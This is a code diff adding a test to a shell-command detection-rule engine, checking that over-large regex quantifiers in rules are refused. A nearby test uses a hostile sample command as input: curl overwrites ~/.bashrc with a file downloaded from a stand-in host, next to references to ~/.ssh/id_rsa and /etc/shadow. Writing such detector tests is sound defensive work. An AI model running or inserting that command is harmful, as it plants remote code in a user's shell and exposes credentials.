@@ -111,6 +111,14 @@ def test_a_pattern_that_counts_far_is_named_by_file_and_line_and_the_rest_go_on(
     assert [finding.rule for finding in engine.examine("ls quux")] == ["near"]
 
 
+@pytest.mark.parametrize("count", ["{500}", "{65,}", "{,80}", "{200,201}"])
+def test_every_way_to_count_far_is_refused(tmp_path: Path, count: str) -> None:
+    head = "id: far\ntitle: t\ntechniques: [T1059]\nseverity: low\nconfidence: low\nhits: [a]\nmisses: [b]\nmatch:\n  kind: command\n"
+    (tmp_path / "mine.yml").write_text(f"{head}  args: ['a.{count}b']\n")
+    (problem,) = CommandEngine(load_rules([tmp_path])).problems
+    assert f"{count} counts further than 64" in str(problem)
+
+
 @pytest.mark.parametrize("seed", ["1", "2", "3"])
 def test_the_findings_stand_in_the_same_order_in_every_process(seed: str) -> None:
     text = "curl -o ~/.bashrc http://192.0.2.3/.x/a ~/.bash_history ~/.ssh/id_rsa /etc/shadow"
